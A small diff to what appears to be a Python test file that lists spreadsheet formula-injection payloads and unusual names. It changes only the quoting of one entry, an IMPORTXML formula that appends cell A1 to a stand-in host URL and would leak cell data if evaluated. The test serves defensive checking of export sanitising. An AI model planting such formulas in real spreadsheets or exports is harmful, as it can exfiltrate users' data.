@@ -35,7 +35,7 @@ PAYLOADS = [
     "＠SUM(1)",
     "-",
     "'=1+1",
-    "=IMPORTXML(CONCAT(\"http://x.invalid\", A1), \"//a\")",
+    '=IMPORTXML(CONCAT("http://x.invalid", A1), "//a")',
 ]
 NAMES = ["Żółć", "O’Brien", "'t Hooft", "Null", "van der Berg, Jr", "004001", "0.5", "1e5", "http://x.invalid", ""]
 
